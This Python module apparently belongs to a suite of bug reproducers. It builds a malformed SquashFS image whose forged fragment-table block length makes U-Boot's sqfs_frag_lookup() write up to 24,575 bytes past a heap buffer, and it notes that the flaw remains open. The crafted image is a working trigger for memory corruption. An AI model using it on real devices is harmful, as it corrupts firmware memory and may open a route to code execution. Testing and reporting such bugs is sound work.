# SPDX-License-Identifier: MIT
"""Open in the patched source: sqfs_frag_lookup() writes up to 24,575 bytes behind a chunk.

A block of the fragment table has at most 8 KiB, and so has the buffer for it. An uncompressed block is copied
there with the length of its header, which has 15 bits. The block here is long enough, so the read is no bug.
"""

import struct

from . import squashfs

FUNCTION = "sqfs_frag_lookup"
TYPES = ("slab-out-of-bounds",)
COMMANDS = ("sqfsload virtio 0 0x44000000 /file",)

# U-Boot takes all up to the index for the directory table, so that has to be a row of blocks.
ROW = 5 * (struct.pack("<H", squashfs.UNCOMPRESSED | squashfs.METADATA_SIZE) + bytes(squashfs.METADATA_SIZE))
# The block of the fragment table lies in the first of them.
BLOCK = 512


def image():
    root = squashfs.Dir("", [squashfs.File("file", b"contents")])
    image = bytearray(squashfs.Writer(root, fragments=True).image())
    (start,) = struct.unpack_from("<Q", image, squashfs.FRAGMENT_TABLE)
    index = start + len(ROW)
    image[start:index] = ROW
    struct.pack_into("<H", image, BLOCK, squashfs.UNCOMPRESSED | 0x7FFF)
    struct.pack_into("<Q", image, index, BLOCK)
    struct.pack_into("<QQ", image, squashfs.FRAGMENT_TABLE, index, index + 8)
    return bytes(image)
